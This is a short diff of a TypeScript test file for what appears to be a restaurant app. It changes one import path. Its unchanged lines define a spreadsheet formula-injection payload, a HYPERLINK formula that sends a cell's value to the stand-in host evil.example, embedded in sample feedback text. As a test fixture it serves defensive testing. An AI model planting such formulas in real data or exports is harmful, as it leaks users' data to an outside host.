@@ -8,7 +8,7 @@ import { DEMO_PASSWORD } from '#server/demo/restaurant.ts';
 import { ingest } from '#server/flows/intake/ingest.ts';
 import { newId } from '#server/system/ids.ts';
 import { openChromium } from '#tests/support/browsers.ts';
-import { type House, openHouse, signInCookie, type Stage } from './stage.ts';
+import { type House, openHouse, signInCookie, type Stage } from './browser-kit.ts';
 
 export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")';
 export const FORMULA_WORDS = `${FORMULA}\n"Cold" soup, and nobody came`;
